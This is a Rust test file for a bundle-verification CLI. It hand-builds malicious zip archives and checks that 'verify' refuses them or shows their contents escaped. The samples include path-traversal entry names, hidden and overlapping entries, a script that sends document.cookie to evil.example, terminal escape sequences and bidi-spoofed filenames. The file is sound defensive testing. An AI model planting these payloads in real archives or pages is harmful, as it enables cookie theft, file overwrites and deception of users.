//! `preflight verify` against hostile bundles made from a real one: a bundle
//! the CLI made, then its bytes patched in place, or its entries written
//! again around an added or changed part. Each bundle here is one that some
//! zip reader unpacks differently from what the central directory (and the
//! manifest) say, or that carries files nobody checked, or text a terminal
//! would act on. `verify` must refuse the first two kinds (exit 2, a Chinese
//! and an English message naming the entry) and show the third escaped.
//!
//! Where the danger depends on a reader, the test shows it with that reader:
//! `bsdtar` really lists the local header's name.

mod cli_support;
mod common;

use std::ffi::OsStr;
use std::fs::{self, File};
use std::io::Read;
use std::path::Path;
use std::process::{Command, Stdio};

use cli_support::*;
use sha2::Digest;

// ---------------------------------------------------------------- zips by hand

/// One entry to write: `name` goes in the central directory, `local_name`
/// (when set) in the local header instead.
#[derive(Clone)]
struct E {
    name: Vec<u8>,
    local_name: Option<Vec<u8>>,
    data: Vec<u8>,
    flags: u16,
    /// Sizes in Zip64 extra fields (both headers) even though they are small.
    zip64: bool,
    /// Extra fields added to both headers.
    extra: Vec<u8>,
    /// Listed in the central directory (a streaming reader finds it anyway).
    in_cd: bool,
}

impl E {
    fn new(name: &str, data: Vec<u8>) -> Self {
        E {
            name: name.as_bytes().to_vec(),
            local_name: None,
            data,
            flags: 0x0800,
            zip64: false,
            extra: Vec::new(),
            in_cd: true,
        }
    }
}

fn put16(v: &mut Vec<u8>, x: u16) {
    v.extend_from_slice(&x.to_le_bytes());
}
fn put32(v: &mut Vec<u8>, x: u32) {
    v.extend_from_slice(&x.to_le_bytes());
}
fn put64(v: &mut Vec<u8>, x: u64) {
    v.extend_from_slice(&x.to_le_bytes());
}

/// A local header for `e` (its data follows it).
fn local_header(e: &E) -> Vec<u8> {
    let crc = crc32fast::hash(&e.data);
    let n = e.data.len() as u64;
    let name = e.local_name.as_ref().unwrap_or(&e.name);
    let mut extra = Vec::new();
    if e.zip64 {
        put16(&mut extra, 1);
        put16(&mut extra, 16);
        put64(&mut extra, n);
        put64(&mut extra, n);
    }
    extra.extend_from_slice(&e.extra);
    let mut h = Vec::new();
    put32(&mut h, 0x0403_4b50);
    put16(&mut h, if e.zip64 { 45 } else { 20 });
    put16(&mut h, e.flags);
    put16(&mut h, 0);
    put16(&mut h, 0);
    put16(&mut h, 0x5c21);
    put32(&mut h, crc);
    let s = if e.zip64 { u32::MAX } else { n as u32 };
    put32(&mut h, s);
    put32(&mut h, s);
    put16(&mut h, name.len() as u16);
    put16(&mut h, extra.len() as u16);
    h.extend_from_slice(name);
    h.extend_from_slice(&extra);
    h
}

/// `prefix`, every entry (header and data) in order, the central directory
/// of those `in_cd`, a classic end record, `suffix`.
fn write_zip(prefix: &[u8], entries: &[E], suffix: &[u8]) -> Vec<u8> {
    let mut out = prefix.to_vec();
    let mut cd = Vec::new();
    let mut n = 0u16;
    for e in entries {
        let offset = out.len() as u32;
        out.extend_from_slice(&local_header(e));
        out.extend_from_slice(&e.data);
        if !e.in_cd {
            continue;
        }
        n += 1;
        let len = e.data.len() as u64;
        let mut extra = Vec::new();
        if e.zip64 {
            put16(&mut extra, 1);
            put16(&mut extra, 16);
            put64(&mut extra, len);
            put64(&mut extra, len);
        }
        extra.extend_from_slice(&e.extra);
        put32(&mut cd, 0x0201_4b50);
        put16(&mut cd, (3 << 8) | 45);
        put16(&mut cd, if e.zip64 { 45 } else { 20 });
        put16(&mut cd, e.flags);
        put16(&mut cd, 0);
        put16(&mut cd, 0);
        put16(&mut cd, 0x5c21);
        put32(&mut cd, crc32fast::hash(&e.data));
        let s = if e.zip64 { u32::MAX } else { len as u32 };
        put32(&mut cd, s);
        put32(&mut cd, s);
        put16(&mut cd, e.name.len() as u16);
        put16(&mut cd, extra.len() as u16);
        put16(&mut cd, 0);
        put16(&mut cd, 0);
        put16(&mut cd, 0);
        put32(&mut cd, 0o100644 << 16);
        put32(&mut cd, offset);
        cd.extend_from_slice(&e.name);
        cd.extend_from_slice(&extra);
    }
    let cd_off = out.len() as u32;
    out.extend_from_slice(&cd);
    put32(&mut out, 0x0605_4b50);
    put32(&mut out, 0);
    put16(&mut out, n);
    put16(&mut out, n);
    put32(&mut out, cd.len() as u32);
    put32(&mut out, cd_off);
    put16(&mut out, 0);
    out.extend_from_slice(suffix);
    out
}

/// The entries of a bundle, in order, read back with the zip crate.
fn entries_of(zip: &Path) -> Vec<E> {
    let mut z = zip::ZipArchive::new(File::open(zip).unwrap()).unwrap();
    (0..z.len())
        .map(|i| {
            let mut f = z.by_index(i).unwrap();
            let mut d = Vec::new();
            f.read_to_end(&mut d).unwrap();
            E::new(&f.name().unwrap(), d)
        })
        .collect()
}

fn manifest_of(entries: &[E]) -> serde_json::Value {
    let m = entries
        .iter()
        .find(|e| e.name == b"manifest.json")
        .expect("manifest.json");
    serde_json::from_slice(&m.data).unwrap()
}

/// Replace manifest.json by `m`, with every listed file's size, CRC and
/// SHA-256 brought up to date with `entries` (as an attacker would).
fn set_manifest(entries: &mut [E], mut m: serde_json::Value) {
    for f in m["files"].as_array_mut().unwrap() {
        let name = f["name"].as_str().unwrap().as_bytes().to_vec();
        if let Some(e) = entries.iter().find(|e| e.name == name) {
            f["size"] = e.data.len().into();
            f["crc32"] = format!("{:08x}", crc32fast::hash(&e.data)).into();
            if f.get("sha256").is_some_and(|s| !s.is_null()) {
                f["sha256"] = sha2::Sha256::digest(&e.data)
                    .iter()
                    .map(|b| format!("{b:02x}"))
                    .collect::<String>()
                    .into();
            }
        }
    }
    let m_entry = entries
        .iter_mut()
        .find(|e| e.name == b"manifest.json")
        .unwrap();
    m_entry.data = serde_json::to_vec_pretty(&m).unwrap();
}

fn u16_at(d: &[u8], i: usize) -> usize {
    u16::from_le_bytes([d[i], d[i + 1]]) as usize
}
fn u32_at(d: &[u8], i: usize) -> u32 {
    u32::from_le_bytes(d[i..i + 4].try_into().unwrap())
}

/// Offsets of the central records in a classic zip, in order.
fn central_records(d: &[u8]) -> Vec<usize> {
    let end = d.len() - 22;
    assert_eq!(
        u32_at(d, end),
        0x0605_4b50,
        "a classic end record at the end"
    );
    let mut at = u32_at(d, end + 16) as usize;
    let mut out = Vec::new();
    for _ in 0..u16_at(d, end + 10) {
        assert_eq!(u32_at(d, at), 0x0201_4b50);
        out.push(at);
        at += 46 + u16_at(d, at + 28) + u16_at(d, at + 30) + u16_at(d, at + 32);
    }
    out
}

// ---------------------------------------------------------------- running

fn verify(dir: &TestDir, bytes: &[u8], tag: &str, extra: &[&str]) -> Run {
    let p = dir.join(format!("{tag}.zip"));
    fs::write(&p, bytes).unwrap();
    let mut args: Vec<&OsStr> = vec![OsStr::new("verify"), p.as_os_str()];
    args.extend(extra.iter().map(OsStr::new));
    preflight_in(&dir.0, &args)
}

/// `bsdtar -tf FILE`, and the same read as a stream from a pipe.
fn bsdtar_lists(zip: &Path) -> (String, String) {
    let o = Command::new("bsdtar")
        .arg("-tf")
        .arg(zip)
        .env("LC_ALL", "C.UTF-8")
        .output()
        .expect("run bsdtar");
    let seekable = String::from_utf8_lossy(&o.stdout).into_owned();
    let o = Command::new("bsdtar")
        .arg("-tf")
        .arg("-")
        .stdin(Stdio::from(File::open(zip).unwrap()))
        .env("LC_ALL", "C.UTF-8")
        .output()
        .expect("run bsdtar");
    (seekable, String::from_utf8_lossy(&o.stdout).into_owned())
}

fn has_raw_controls(b: &[u8]) -> bool {
    let s = String::from_utf8_lossy(b);
    b.iter().any(|&c| c == 0x1b || c == 0x07)
        || s.chars().any(|c| {
            matches!(c, '\u{80}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{feff}')
        })
}

// ---------------------------------------------------------------- tests

#[test]
fn a_rebuilt_bundle_passes_so_the_refusals_below_are_the_patches() {
    let dir = TestDir::new("verify-control");
    let zip = cujs_bundle(&dir, "real.zip");
    let r = preflight(&dir.0, &["verify", zip.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}{}", r.out(), r.err());
    let entries = entries_of(&zip);
    let r = verify(&dir, &write_zip(&[], &entries, &[]), "rebuilt", &[]);
    assert_eq!(
        r.code,
        0,
        "the same entries written again:\n{}{}",
        r.out(),
        r.err()
    );
    // Sizes in Zip64 extra fields, as a 4 GB bundle has them, read right.
    let mut z = entries.clone();
    z[0].zip64 = true;
    let r = verify(&dir, &write_zip(&[], &z, &[]), "zip64", &[]);
    assert_eq!(r.code, 0, "Zip64 extras:\n{}{}", r.out(), r.err());
}

type Case = (&'static str, Vec<u8>, &'static str);

/// The real bundle with the video's local header naming `../../…a.jspp`
/// (same length): (bytes, the directory's name, the local name).
fn local_name_case(good: &[u8]) -> (Vec<u8>, String, String) {
    let mut d = good.to_vec();
    // The first entry is the video; its local header is at 0.
    let nlen = u16_at(&d, 26);
    let name = String::from_utf8(d[30..30 + nlen].to_vec()).unwrap();
    let mut evil = "../".repeat((nlen - 6) / 3);
    evil.push_str(&"a".repeat(nlen - 5 - evil.len()));
    evil.push_str(".jspp");
    assert_eq!(evil.len(), nlen);
    d[30..30 + nlen].copy_from_slice(evil.as_bytes());
    (d, name, evil)
}

#[test]
fn verify_refuses_a_local_name_that_differs_from_the_directory() {
    let dir = TestDir::new("verify-local-name");
    let zip = cujs_bundle(&dir, "real.zip");
    let (d, name, evil) = local_name_case(&fs::read(&zip).unwrap());
    let p = dir.join("local-name.zip");
    fs::write(&p, &d).unwrap();

    // The danger is real: bsdtar unpacks the local header's name.
    let (seekable, streamed) = bsdtar_lists(&p);
    eprintln!("bsdtar -tf: {seekable:?}\nbsdtar -tf - <: {streamed:?}");
    assert!(
        seekable.lines().any(|l| l == evil) || streamed.lines().any(|l| l == evil),
        "bsdtar lists {evil}:\n{seekable}\n{streamed}"
    );

    let r = verify(&dir, &d, "local-name-v", &[]);
    assert_error(&r, "bad_bundle", "local header", "local name");
    let err = r.err();
    assert!(
        err.contains(&name) && err.contains(&evil),
        "both names: {err}"
    );
    assert!(err.contains("本地文件头"), "in Chinese too: {err}");
    assert!(r.stdout.is_empty(), "no report: {}", r.out());
}

/// The real bundle with one field of the second entry's local header (or
/// its central offset, or the end) patched; and that entry's name.
fn field_cases(good: &[u8]) -> (Vec<Case>, String) {
    let good = good.to_vec();
    let cds = central_records(&good);
    // The second entry's local header (a small file after the video).
    let second = u32_at(&good, cds[1] + 42) as usize;
    let second_name = {
        let n = u16_at(&good, cds[1] + 28);
        String::from_utf8(good[cds[1] + 46..cds[1] + 46 + n].to_vec()).unwrap()
    };
    let patch = |at: usize, bytes: &[u8]| {
        let mut d = good.clone();
        d[at..at + bytes.len()].copy_from_slice(bytes);
        d
    };
    let flip32 = |at: usize| {
        let v = u32_at(&good, at) ^ 0x0100_0001;
        patch(at, &v.to_le_bytes())
    };
    let cases: Vec<Case> = vec![
        // No UTF-8 flag in the local header: a streaming reader decodes the
        // name as CP437 or the system's code page.
        (
            "local flags",
            patch(second + 6, &0u16.to_le_bytes()),
            "flags",
        ),
        (
            "local method deflate",
            patch(second + 8, &8u16.to_le_bytes()),
            "method",
        ),
        ("local CRC", flip32(second + 14), "CRC-32"),
        ("local stored size", flip32(second + 18), "sizes"),
        ("local original size", flip32(second + 22), "sizes"),
        (
            "local time",
            patch(second + 10, &0x1234u16.to_le_bytes()),
            "time",
        ),
        // The central record points past the central directory.
        (
            "central offset out of bounds",
            patch(cds[1] + 42, &(good.len() as u32 + 100).to_le_bytes()),
            "out of bounds",
        ),
        // The central record points at the video's local header.
        (
            "central offset at another entry",
            patch(cds[1] + 42, &0u32.to_le_bytes()),
            "local header",
        ),
        // A comment after the end record (unzip -l prints it).
        (
            "a zip comment",
            {
                let mut d = good.clone();
                let n = d.len();
                d[n - 2..].copy_from_slice(&5u16.to_le_bytes());
                d.extend_from_slice(b"\x1b[2Jx");
                d
            },
            "not at the very end",
        ),
        (
            "bytes after the end record",
            [good.clone(), b"PK\x03\x04 trailing".to_vec()].concat(),
            "not at the very end",
        ),
    ];
    (cases, second_name)
}

#[test]
fn verify_refuses_every_local_header_field_that_differs() {
    let dir = TestDir::new("verify-local-fields");
    let zip = cujs_bundle(&dir, "real.zip");
    let (cases, second_name) = field_cases(&fs::read(&zip).unwrap());
    let mut failures = Vec::new();
    for (what, bytes, en_has) in cases {
        let r = verify(&dir, &bytes, "field", &[]);
        eprintln!("{what}: {}", r.err().lines().nth(1).unwrap_or(""));
        let names = what.starts_with("central offset")
            || what.contains("comment")
            || what.contains("after")
            || r.err().contains(&second_name);
        if let Err(e) = check_error(&r, "bad_bundle", en_has) {
            failures.push(format!("{what}: {e}"));
        } else if !names {
            failures.push(format!("{what}: does not name {second_name}: {}", r.err()));
        } else if !r.stdout.is_empty() {
            failures.push(format!("{what}: a report on stdout: {}", r.out()));
        }
    }
    assert_no_failures(&failures);
}

/// An entry inside another one's data, both listed (the manifest too).
fn nested_case(entries: &[E]) -> Case {
    let mut nested = entries.to_vec();
    let report = nested
        .iter()
        .position(|e| e.name == b"report.html")
        .unwrap();
    let inner = E::new("说明.html", b"<script>alert(1)</script>".to_vec());
    let inner_bytes = [local_header(&inner), inner.data.clone()].concat();
    nested[report].data.extend_from_slice(&inner_bytes);
    let mut m = manifest_of(&nested);
    m["files"].as_array_mut().unwrap().push(serde_json::json!({
        "name": "说明.html",
        "role": "report",
        "size": inner.data.len(),
        "crc32": format!("{:08x}", crc32fast::hash(&inner.data)),
    }));
    set_manifest(&mut nested, m);
    let mut bytes = write_zip(&[], &nested, &[]);
    // Add 说明.html to the directory, pointing inside report.html's data.
    {
        let start = bytes
            .windows(inner_bytes.len())
            .position(|w| w == inner_bytes.as_slice())
            .unwrap() as u32;
        let end = bytes.len() - 22;
        let cd_off = u32_at(&bytes, end + 16) as usize;
        let mut rec = Vec::new();
        put32(&mut rec, 0x0201_4b50);
        put16(&mut rec, (3 << 8) | 45);
        put16(&mut rec, 20);
        put16(&mut rec, 0x0800);
        put16(&mut rec, 0);
        put16(&mut rec, 0);
        put16(&mut rec, 0x5c21);
        put32(&mut rec, crc32fast::hash(&inner.data));
        put32(&mut rec, inner.data.len() as u32);
        put32(&mut rec, inner.data.len() as u32);
        put16(&mut rec, inner.name.len() as u16);
        put16(&mut rec, 0);
        put32(&mut rec, 0);
        put16(&mut rec, 0);
        put32(&mut rec, 0o100644 << 16);
        put32(&mut rec, start);
        rec.extend_from_slice(&inner.name);
        let mut tail = bytes[end..].to_vec();
        let n = u16_at(&tail, 10) as u16 + 1;
        tail[8..10].copy_from_slice(&n.to_le_bytes());
        tail[10..12].copy_from_slice(&n.to_le_bytes());
        let cd_len = u32_at(&tail, 12) + rec.len() as u32;
        tail[12..16].copy_from_slice(&cd_len.to_le_bytes());
        bytes.truncate(end);
        bytes.extend_from_slice(&rec);
        bytes.extend_from_slice(&tail);
        assert_eq!(cd_off, u32_at(&bytes, bytes.len() - 6) as usize);
    }
    ("an entry inside another's data", bytes, "overlaps")
}

/// The real bundle's entries written again with something out of line
/// with the stream: data before, between or inside entries, a name twice,
/// Zip64 sizes that differ, a Unicode Path, a data descriptor.
fn layout_cases(entries: &[E]) -> Vec<Case> {
    let entries = entries.to_vec();
    let mz = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff This program cannot be run in DOS mode.".to_vec();
    let mut cases: Vec<Case> = Vec::new();

    // A program before the zip (a self-extractor): readers that start at
    // byte 0 see it, the directory does not.
    cases.push((
        "a prepended program",
        write_zip(&mz, &entries, &[]),
        "before the first entry",
    ));

    // setup.exe between two entries, in the stream but not in the directory.
    let mut hidden = entries.clone();
    let mut exe = E::new("setup.exe", mz.clone());
    exe.in_cd = false;
    hidden.insert(1, exe);
    cases.push((
        "an entry hidden between two",
        write_zip(&[], &hidden, &[]),
        "belong to no entry",
    ));
    let mut hidden_end = entries.clone();
    let mut exe = E::new("setup.exe", mz.clone());
    exe.in_cd = false;
    hidden_end.push(exe);
    cases.push((
        "an entry hidden before the directory",
        write_zip(&[], &hidden_end, &[]),
        "before the central directory",
    ));

    cases.push(nested_case(&entries));

    // The same name twice.
    let mut twice = entries.clone();
    twice.insert(1, entries[0].clone());
    cases.push((
        "the video twice",
        write_zip(&[], &twice, &[]),
        "occurs twice",
    ));
    let mut cased = entries.clone();
    let mut upper = entries[0].clone();
    upper.name = String::from_utf8(upper.name)
        .unwrap()
        .to_uppercase()
        .into_bytes();
    if upper.name != entries[0].name {
        cased.insert(1, upper);
        cases.push((
            "a name in two cases",
            write_zip(&[], &cased, &[]),
            "occurs twice",
        ));
    }

    // Zip64 sizes in the local header that differ from the directory's.
    let mut z = entries.clone();
    z[0].zip64 = true;
    let mut d = write_zip(&[], &z, &[]);
    let nlen = u16_at(&d, 26);
    let at = 30 + nlen + 4; // the local Zip64 extra's values
    let wrong = (z[0].data.len() as u64 + 1000).to_le_bytes();
    d[at..at + 8].copy_from_slice(&wrong);
    d[at + 8..at + 16].copy_from_slice(&wrong);
    cases.push(("local Zip64 sizes", d, "sizes"));

    // A Unicode Path extra field (Info-ZIP, 7-Zip take the name from it).
    let mut up = entries.clone();
    let evil = b"../../evil.sh";
    let mut x = Vec::new();
    put16(&mut x, 0x7075);
    put16(&mut x, (5 + evil.len()) as u16);
    x.push(1);
    put32(&mut x, crc32fast::hash(&up[1].name));
    x.extend_from_slice(evil);
    up[1].extra = x;
    cases.push((
        "a Unicode Path extra field",
        write_zip(&[], &up, &[]),
        "Unicode Path",
    ));

    // A data descriptor: sizes after the data, none in the local header.
    let mut dd = entries.clone();
    dd[1].flags |= 0x0008;
    cases.push((
        "a data descriptor",
        write_zip(&[], &dd, &[]),
        "data descriptor",
    ));
    cases
}

#[test]
fn verify_refuses_entries_out_of_line_with_the_stream() {
    let dir = TestDir::new("verify-layout");
    let zip = cujs_bundle(&dir, "real.zip");
    let cases = layout_cases(&entries_of(&zip));
    let mut failures = Vec::new();
    for (what, bytes, en_has) in cases {
        let r = verify(&dir, &bytes, "layout", &[]);
        eprintln!("{what}: {}", r.err().lines().nth(1).unwrap_or(""));
        if let Err(e) = check_error(&r, "bad_bundle", en_has) {
            failures.push(format!("{what}: {e}"));
        } else if !r.stdout.is_empty() {
            failures.push(format!("{what}: a report on stdout: {}", r.out()));
        }
    }
    assert_no_failures(&failures);
}

/// The real bundle's entries with files added that the manifest does not
/// list: (what, bytes, the added names).
fn unlisted_cases(entries: &[E]) -> Vec<(&'static str, Vec<u8>, Vec<String>)> {
    let readme = E::new(
        "readme.html",
        b"<html><script>location='https://evil.example/'+document.cookie</script></html>".to_vec(),
    );
    let exe = E::new(
        "setup.exe",
        b"MZ\x90\x00 This program cannot be run in DOS mode.".to_vec(),
    );
    let second = E::new("作品视频（完整版）.mp4", entries[0].data.clone());
    [
        ("readme.html", vec![readme.clone()]),
        ("setup.exe", vec![exe.clone()]),
        ("a second video", vec![second.clone()]),
        ("all three", vec![readme, exe, second]),
    ]
    .into_iter()
    .map(|(what, added)| {
        let names = added
            .iter()
            .map(|e| String::from_utf8(e.name.clone()).unwrap())
            .collect();
        let mut v = entries.to_vec();
        v.splice(1..1, added);
        (what, write_zip(&[], &v, &[]), names)
    })
    .collect()
}

#[test]
fn verify_refuses_entries_the_manifest_does_not_list() {
    let dir = TestDir::new("verify-unlisted");
    let zip = cujs_bundle(&dir, "real.zip");
    let mut failures = Vec::new();
    for (what, bytes, names) in unlisted_cases(&entries_of(&zip)) {
        let r = verify(&dir, &bytes, "unlisted", &[]);
        eprintln!("{what}: {}", r.err().lines().nth(1).unwrap_or(""));
        if let Err(e) = check_error(&r, "bad_bundle", "the manifest does not list") {
            failures.push(format!("{what}: {e}"));
        } else if let Some(n) = names.iter().find(|n| !r.err().contains(n.as_str())) {
            failures.push(format!("{what}: does not name {n}: {}", r.err()));
        } else if !r.stdout.is_empty() {
            failures.push(format!("{what}: a report on stdout: {}", r.out()));
        }
    }
    assert_no_failures(&failures);
}

const ESC_TITLE: &str = "黑洞\u{1b}[2K\u{1b}[1A\u{1b}]0;pwned\u{7}\u{9b}31m的秘密";
const BIDI_NAME: &str = "clip\u{202e}4pm.exe\u{200b}\u{feff}.mp4";
const ESC_NAME: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}.txt";

/// The bundle's entries with the manifest's title and the video's name
/// replaced by text a terminal acts on (the manifest kept consistent).
fn escape_case(entries: &[E]) -> Vec<u8> {
    let mut entries = entries.to_vec();
    let old_name = String::from_utf8(entries[0].name.clone()).unwrap();
    entries[0].name = BIDI_NAME.as_bytes().to_vec();
    let mut m = manifest_of(&entries);
    m["form"]["title"] = ESC_TITLE.into();
    for f in m["files"].as_array_mut().unwrap() {
        if f["name"] == old_name.as_str() {
            f["name"] = BIDI_NAME.into();
        }
    }
    set_manifest(&mut entries, m);
    write_zip(&[], &entries, &[])
}

/// The bundle's entries and one more whose name holds ESC sequences.
fn escape_name_case(entries: &[E]) -> Vec<u8> {
    let mut e = entries.to_vec();
    e.push(E::new(ESC_NAME, b"x".to_vec()));
    write_zip(&[], &e, &[])
}

/// An Inner Mongolia bundle (its report compares the video's name with the
/// form's title, and shows both when they differ), with the manifest's title
/// and the video's name replaced by text a terminal acts on.
#[test]
fn verify_shows_names_and_form_values_escaped() {
    let dir = TestDir::new("verify-escape");
    let form = write_json(
        &dir,
        "nmg.json",
        serde_json::json!({"unit": "某科普中心", "title": "黑洞的秘密"}),
    );
    let zip = dir.join("nmg.zip");
    let v = video();
    let r = preflight(
        &dir.0,
        &[
            "bundle",
            "--profile",
            "nmg-kepu-2025",
            "--channel",
            "recommend",
            "--form",
            form.to_str().unwrap(),
            "--video",
            v.to_str().unwrap(),
            "-o",
            zip.to_str().unwrap(),
            "--force",
        ],
    );
    assert_eq!(r.code, 1, "forced bundle:\n{}{}", r.out(), r.err());
    let bytes = escape_case(&entries_of(&zip));

    let r = verify(&dir, &bytes, "escape", &[]);
    let out = r.out();
    eprintln!("{out}");
    assert!(r.code == 0 || r.code == 1, "verified: {}{}", out, r.err());
    assert!(
        !has_raw_controls(&r.stdout) && !has_raw_controls(&r.stderr),
        "raw control or bidi characters reach the terminal:\n{out:?}"
    );
    assert!(
        out.contains("clip\\u{202e}4pm.exe\\u{200b}\\u{feff}.mp4"),
        "the video's name, escaped:\n{out}"
    );
    assert!(
        out.contains("\\x1b[2K\\x1b[1A\\x1b]0;pwned\\x07\\u{9b}31m"),
        "the title, escaped:\n{out}"
    );

    // JSON: the same values, escaped as JSON, nothing raw.
    let r = verify(&dir, &bytes, "escape-json", &["--json"]);
    assert!(
        !has_raw_controls(&r.stdout),
        "raw control or bidi characters in JSON:\n{}",
        r.out()
    );
    let j: serde_json::Value = serde_json::from_slice(&r.stdout).expect("JSON");
    assert_eq!(j["files"][0]["name"], BIDI_NAME);
    let text = r.out();
    assert!(
        text.contains("\\u001b[2K") && text.contains("\\u202e"),
        "escaped in the JSON text:\n{text}"
    );

    // A name with ESC in the zip itself is refused, and shown escaped.
    let r = verify(
        &dir,
        &escape_name_case(&entries_of(&zip)),
        "escape-name",
        &[],
    );
    assert_error(
        &r,
        "bad_bundle",
        "\\x1b[2J\\x1b]0;pwned\\x07.txt",
        "ESC in a name",
    );
    assert!(!has_raw_controls(&r.stderr), "{:?}", r.err());
}

// ---------------------------------------------------------------- fuzz seeds

fn seeds_dir() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds/verify")
}

/// A seed's file name from a case's description.
fn slug(what: &str) -> String {
    what.chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect::<String>()
        .to_lowercase()
}

/// Writes every hostile bundle above, made from a small bundle (the 64×36
/// fixture, `--force`), into `fuzz/seeds/verify/` as seeds for the `verify`
/// fuzz target. Run by hand: `cargo test --test verify -- --ignored write_fuzz_seeds`.
#[test]
#[ignore]
fn write_fuzz_seeds() {
    let dir = TestDir::new("verify-seeds");
    let zip = dir.join("small.zip");
    let tiny = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/tiny.mp4");
    let r = preflight(
        &dir.0,
        &[
            "bundle",
            "--profile",
            CUJS,
            "--video",
            tiny.to_str().unwrap(),
            "-o",
            zip.to_str().unwrap(),
            "--force",
        ],
    );
    assert_eq!(r.code, 1, "{}{}", r.out(), r.err());
    let good = fs::read(&zip).unwrap();
    let entries = entries_of(&zip);
    let out = seeds_dir();
    let _ = fs::remove_dir_all(&out);
    fs::create_dir_all(&out).unwrap();
    let mut seeds: Vec<(String, Vec<u8>)> = vec![
        ("ok-bundle".into(), good.clone()),
        ("ok-escaped-names".into(), escape_case(&entries)),
        ("local-name".into(), local_name_case(&good).0),
        ("escape-name".into(), escape_name_case(&entries)),
    ];
    seeds.extend(
        field_cases(&good)
            .0
            .into_iter()
            .map(|c| (format!("field-{}", slug(c.0)), c.1)),
    );
    seeds.extend(
        layout_cases(&entries)
            .into_iter()
            .map(|c| (format!("layout-{}", slug(c.0)), c.1)),
    );
    seeds.extend(
        unlisted_cases(&entries)
            .into_iter()
            .map(|c| (format!("unlisted-{}", slug(c.0)), c.1)),
    );
    for (name, bytes) in seeds {
        fs::write(out.join(format!("{name}.zip")), bytes).unwrap();
    }
}

/// The seeds as `verify` sees them: the two `ok-` ones verify, every other
/// one is refused as a bad bundle, none panics.
#[test]
fn fuzz_seeds_verify_as_named() {
    let mut n = 0;
    let mut failures = Vec::new();
    for e in fs::read_dir(seeds_dir()).expect("fuzz/seeds/verify") {
        let p = e.unwrap().path();
        let name = p.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = fs::read(&p).unwrap();
        let got = preflight::verify::verify(std::io::Cursor::new(&bytes), bytes.len() as u64);
        n += 1;
        match (name.starts_with("ok-"), got) {
            (true, Ok(_)) => {}
            (false, Err(e)) if e.code == "bad_bundle" => {}
            (true, Err(e)) => failures.push(format!("{name}: refused: {}", e.message_en)),
            (false, Err(e)) => failures.push(format!("{name}: {} ({})", e.code, e.message_en)),
            (false, Ok(_)) => failures.push(format!("{name}: verified")),
        }
    }
    assert!(n >= 25, "only {n} seeds in fuzz/seeds/verify");
    assert_no_failures(&failures);
}
